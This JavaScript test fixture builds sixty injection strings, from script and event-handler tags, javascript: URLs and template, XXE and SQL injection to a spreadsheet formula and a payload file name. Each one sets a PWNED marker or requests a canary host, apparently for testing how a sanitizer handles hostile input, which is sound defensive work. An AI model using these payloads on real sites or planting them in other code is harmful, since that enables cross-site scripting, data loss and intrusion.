/**
 * Sixty ways in which text of strangers becomes script, markup, style or a request, each calling
 * `PWNED(n)` or asking `http://canary.invalid/n` when it works. The classes are those of the OWASP
 * cheat sheet on filter evasion; the strings are ours.
 */
const call = (n) => `window.PWNED=[...(window.PWNED||[]),${n}]`;
const url = (n) => `http://canary.invalid/${n}`;

const makers = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<SCRIPT SRC=${url(n)}></SCRIPT>`,
  (n) => `<img src=x onerror="${call(n)}">`,
  (n) => `<img src=${url(n)}>`,
  (n) => `"><img src=x onerror=${call(n)}>`,
  (n) => `'><svg onload=${call(n)}>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
  (n) => `<svg><image href=${url(n)} /></svg>`,
  (n) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  (n) => `<iframe src="javascript:${call(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<object data=${url(n)}></object>`,
  (n) => `<embed src=${url(n)}>`,
  (n) => `<link rel=stylesheet href=${url(n)}>`,
  (n) => `<link rel=prefetch href=${url(n)}>`,
  (n) => `<style>@import '${url(n)}';</style>`,
  (n) => `<style>*{background:url(${url(n)})}</style>`,
  (n) => `<div style="background:url(${url(n)})">x</div>`,
  (n) => `<base href=${url(n)}>`,
  (n) => `<meta http-equiv=refresh content="0;url=${url(n)}">`,
  (n) => `<form action=${url(n)}><input autofocus onfocus=${call(n)}></form>`,
  (n) => `<details open ontoggle=${call(n)}>x</details>`,
  (n) => `<video><source onerror=${call(n)}></video>`,
  (n) => `<audio src=${url(n)} autoplay></audio>`,
  (n) => `<body onload=${call(n)}>`,
  (n) => `<marquee onstart=${call(n)}>x</marquee>`,
  (n) => `<a href="javascript:${call(n)}">x</a>`,
  (n) => `javascript:${call(n)}`,
  (n) => `JaVaScRiPt:${call(n)}`,
  (n) => `java\tscript:${call(n)}`,
  (n) => `data:text/html,<script>opener.${call(n)}</script>`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `{@html "<img src=x onerror=${call(n)}>"}`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `{{ 7*7 }}{% for x in range(9) %}${n}{% endfor %}`,
  (n) => `</textarea><script>${call(n)}</script>`,
  (n) => `</title><script>${call(n)}</script>`,
  (n) => `</style><script>${call(n)}</script>`,
  (n) => `</script><script>${call(n)}</script>`,
  (n) => `--><script>${call(n)}</script><!--`,
  (n) => `]]><script>${call(n)}</script>`,
  (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
  (n) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${url(n)}">]><x>&e;</x>`,
  (n) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}></style></mglyph></table></mtext></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
  (n) => `<template><script>${call(n)}</script></template>`,
  (n) => `<img srcset="${url(n)} 1x">`,
  (n) => `<input type=image src=${url(n)} onerror=${call(n)}>`,
  (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`,
  (n) => `\\u003cscript\\u003e${call(n)}\\u003c/script\\u003e`,
  (n) => `\u0007<script>${call(n)}</script>`,
  (n) => `\u202e<script>${call(n)}</script>\u202c`,
  (n) => `＜script＞${call(n)}＜/script＞`,
  (n) => `__proto__[PWNED]=${n}`,
  (n) => `constructor`,
  (n) => `=HYPERLINK("${url(n)}","x")`,
  (n) => `';DROP TABLE marks;--${n}`,
  (n) => `${'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘'.repeat(40)}<img src=x onerror=${call(n)}>`,
];

export const PAYLOADS = makers.map((make, n) => make(n));

/** A file name that a system allows and that is a payload too. */
export const FILE_NAME = '"><img src=x onerror=PWNED=1>.csv';
